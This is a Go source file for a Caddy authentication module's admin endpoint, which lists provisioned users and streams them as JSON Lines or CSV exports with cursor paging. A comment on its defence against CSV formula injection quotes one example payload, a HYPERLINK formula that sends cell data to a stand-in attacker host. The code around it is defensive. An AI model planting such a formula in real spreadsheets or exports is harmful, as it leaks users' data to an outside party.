package caddymodule

import (
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/caddyserver/caddy/v2"

	"github.com/jitauth/caddy-jitauth/provisioner"
)

// The directory as a list: GET /jit_auth/users, one page of users with
// a cursor for the next, or with format=jsonl or csv every matching user,
// streamed page by page (never held in memory whole).

// userSummary is a user as the list and the export show it: who, how
// they stand, and when they were seen; GET /jit_auth/users/<user> has the
// rest.
type userSummary struct {
	ID            string    `json:"id"`
	Username      string    `json:"username"`
	Email         string    `json:"email"`
	EmailVerified bool      `json:"email_verified"`
	Name          string    `json:"name"`
	Status        string    `json:"status"`
	Roles         []string  `json:"roles"`
	CreatedAt     time.Time `json:"created_at"`
	LastLoginAt   time.Time `json:"last_login_at,omitzero"`
}

func summarise(u *provisioner.User) userSummary {
	roles := u.Roles()
	if roles == nil {
		roles = []string{}
	}
	return userSummary{ID: u.ID, Username: u.Username, Email: u.Email, EmailVerified: u.EmailVerified, Name: u.Name,
		Status: string(u.Status), Roles: roles, CreatedAt: u.CreatedAt, LastLoginAt: u.LastLoginAt}
}

// csvHeader is the export's CSV columns, in userSummary's order; roles
// are joined with ',' (role names cannot hold one).
var csvHeader = []string{"id", "username", "email", "email_verified", "name", "status", "roles", "created_at", "last_login_at"}

func (s userSummary) csvRecord() []string {
	last := ""
	if !s.LastLoginAt.IsZero() {
		last = s.LastLoginAt.UTC().Format(time.RFC3339)
	}
	return []string{inertCell(s.ID), inertCell(s.Username), inertCell(s.Email), strconv.FormatBool(s.EmailVerified),
		inertCell(s.Name), inertCell(s.Status), inertCell(strings.Join(s.Roles, ",")), s.CreatedAt.UTC().Format(time.RFC3339), last}
}

// inertCell keeps a spreadsheet from running a CSV cell as a formula. A
// user's name and email come from the provider's claims, which the user
// sets: a name such as =HYPERLINK("https://evil.example/?"&A2, "Open")
// would run in the administrator's spreadsheet when the export is
// opened. A cell that starts as a formula does (=, +, -, @, a tab or a
// carriage return) gets a leading "'", which spreadsheets read as "text"
// and do not show (OWASP's CSV injection advice). The JSON Lines export
// keeps every value as stored.
func inertCell(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return "'" + s
	}
	return s
}

// listParams are the query parameters the list takes.
var listParams = []string{"q", "connection", "status", "role", "seen_before", "seen_after", "limit", "cursor", "format"}

const defaultListLimit = 100

// exportPage is how many users the export reads per store query (a
// variable for the tests).
var exportPage = 500

// parseUserQuery reads the list's query parameters; its errors say which
// parameter is wrong and what it takes.
func parseUserQuery(v url.Values, now time.Time) (provisioner.UserQuery, string, error) {
	for k := range v {
		if !slices.Contains(listParams, k) {
			return provisioner.UserQuery{}, "", adminError(http.StatusBadRequest, "unknown parameter %q; the parameters are %s", k, strings.Join(listParams, ", "))
		}
		if len(v[k]) > 1 {
			return provisioner.UserQuery{}, "", adminError(http.StatusBadRequest, "parameter %q is given twice", k)
		}
		if !provisioner.StorableText(v[k][0]) {
			// No stored value can match it, and PostgreSQL refuses it.
			return provisioner.UserQuery{}, "", adminError(http.StatusBadRequest, "parameter %q is not valid UTF-8 or holds a NUL character (%%00)", k)
		}
	}
	q := provisioner.UserQuery{Search: v.Get("q"), Connection: v.Get("connection"), Role: v.Get("role"), Limit: defaultListLimit}
	switch st := v.Get("status"); st {
	case "", string(provisioner.StatusActive), string(provisioner.StatusDisabled):
		q.Status = provisioner.Status(st)
	default:
		return q, "", adminError(http.StatusBadRequest, "status %q: use active or disabled", st)
	}
	for _, p := range []struct {
		name string
		dst  *time.Time
	}{{"seen_before", &q.SeenBefore}, {"seen_after", &q.SeenAfter}} {
		raw := v.Get(p.name)
		if raw == "" {
			continue
		}
		if t, err := time.Parse(time.RFC3339, raw); err == nil {
			*p.dst = t
		} else if d, err := caddy.ParseDuration(raw); err == nil && d > 0 {
			*p.dst = now.Add(-d)
		} else {
			return q, "", adminError(http.StatusBadRequest, "%s %q: give an RFC 3339 time (2026-01-02T15:04:05Z) or a duration back from now (720h, 30d)", p.name, raw)
		}
	}
	if raw := v.Get("limit"); raw != "" {
		n, err := strconv.Atoi(raw)
		if err != nil || n < 1 || n > provisioner.MaxSearchLimit {
			return q, "", adminError(http.StatusBadRequest, "limit %q: a number from 1 to %d", raw, provisioner.MaxSearchLimit)
		}
		q.Limit = n
	}
	if raw := v.Get("cursor"); raw != "" {
		after, err := base64.RawURLEncoding.DecodeString(raw)
		if err != nil || len(after) == 0 || !provisioner.StorableText(string(after)) {
			return q, "", adminError(http.StatusBadRequest, "cursor %q is not one this API gave; start again without it", raw)
		}
		q.After = string(after)
	}
	format := v.Get("format")
	switch format {
	case "", "json", "jsonl", "csv":
	default:
		return q, "", adminError(http.StatusBadRequest, "format %q: use json (a page), jsonl or csv (every matching user)", format)
	}
	return q, format, nil
}

// handleAdminUserList answers GET /jit_auth/users.
func handleAdminUserList(w http.ResponseWriter, r *http.Request) error {
	if r.Method != http.MethodGet {
		w.Header().Set("Allow", http.MethodGet)
		return adminError(http.StatusMethodNotAllowed, "method %s not allowed; use GET", r.Method)
	}
	// Not r.URL.Query(): it skips a pair that does not parse ("q=50%"),
	// and a filter dropped unsaid answers with users it would exclude.
	values, err := url.ParseQuery(r.URL.RawQuery)
	if err != nil {
		return adminError(http.StatusBadRequest, "the query does not parse: %v; escape %% as %%25 and separate parameters with &", err)
	}
	q, format, err := parseUserQuery(values, time.Now())
	if err != nil {
		return err
	}
	app, done, err := activeApp()
	if err != nil {
		return err
	}
	defer done()
	if app.admin == nil {
		return adminError(http.StatusNotImplemented, "the store (%s) cannot list users (it does not implement provisioner.AdminStore)", app.storeName())
	}
	if format == "jsonl" || format == "csv" {
		return exportUsers(w, r, app.admin, q, format)
	}
	ctx, cancel := context.WithTimeout(r.Context(), storeTimeout)
	defer cancel()
	users, err := app.admin.SearchUsers(ctx, q)
	if err != nil {
		return adminError(http.StatusServiceUnavailable, "user store: %v", err)
	}
	page := struct {
		Users      []userSummary `json:"users"`
		NextCursor string        `json:"next_cursor,omitempty"`
	}{Users: make([]userSummary, 0, len(users))}
	for i := range users {
		page.Users = append(page.Users, summarise(&users[i]))
	}
	if len(users) == q.Limit {
		// A full page is the last one when nobody follows it: look, so
		// that a client never fetches an empty page.
		next := q
		next.After, next.Limit = provisioner.NormalizeUsername(users[len(users)-1].Username), 1
		more, err := app.admin.SearchUsers(ctx, next)
		if err != nil {
			return adminError(http.StatusServiceUnavailable, "user store: %v", err)
		}
		if len(more) > 0 {
			page.NextCursor = base64.RawURLEncoding.EncodeToString([]byte(next.After))
		}
	}
	return writeJSON(w, page)
}

// exportUsers streams every user matching q, exportPage at a time, each
// page flushed before the next is read. Once the first line is out, a
// store failure can no longer change the status: the export then ends
// with a last line saying so (JSON Lines: {"error": …}; CSV: a record
// whose id is "#error"), so a truncated export is never mistaken for a
// whole one.
func exportUsers(w http.ResponseWriter, r *http.Request, store provisioner.AdminStore, q provisioner.UserQuery, format string) error {
	q.Limit = exportPage
	var cw *csv.Writer
	enc := json.NewEncoder(w)
	if format == "csv" {
		w.Header().Set("Content-Type", "text/csv; charset=utf-8")
		cw = csv.NewWriter(w)
	} else {
		w.Header().Set("Content-Type", "application/jsonl")
	}
	w.Header().Set("Content-Disposition", `attachment; filename="jit_auth-users.`+format+`"`)
	// A trailer says whether the export is whole, for clients (caddy
	// jit-users) that must not take a truncated one for it.
	w.Header().Set("Trailer", exportTrailer)
	flusher, _ := w.(http.Flusher)
	started := false
	for {
		ctx, cancel := context.WithTimeout(r.Context(), storeTimeout)
		users, err := store.SearchUsers(ctx, q)
		cancel()
		if err != nil {
			if !started {
				return adminError(http.StatusServiceUnavailable, "user store: %v", err)
			}
			if cw != nil {
				_ = cw.Write([]string{"#error", "export incomplete: user store: " + err.Error()})
				cw.Flush()
			} else {
				_ = enc.Encode(map[string]string{"error": "export incomplete: user store: " + err.Error()})
			}
			w.Header().Set(exportTrailer, "incomplete")
			return nil
		}
		if !started && cw != nil {
			if err := cw.Write(csvHeader); err != nil {
				return nil
			}
		}
		started = true
		for i := range users {
			s := summarise(&users[i])
			var werr error
			if cw != nil {
				werr = cw.Write(s.csvRecord())
			} else {
				werr = enc.Encode(s)
			}
			if werr != nil {
				return nil // the client went away
			}
		}
		if cw != nil {
			cw.Flush()
		}
		if flusher != nil {
			flusher.Flush()
		}
		if len(users) < q.Limit {
			w.Header().Set(exportTrailer, "complete")
			return nil
		}
		q.After = provisioner.NormalizeUsername(users[len(users)-1].Username)
	}
}

// exportTrailer is the trailer field of an export: "complete" when every
// matching user was sent, "incomplete" when the store failed part-way;
// absent when the answer was cut short.
const exportTrailer = "Jit-Auth-Export"
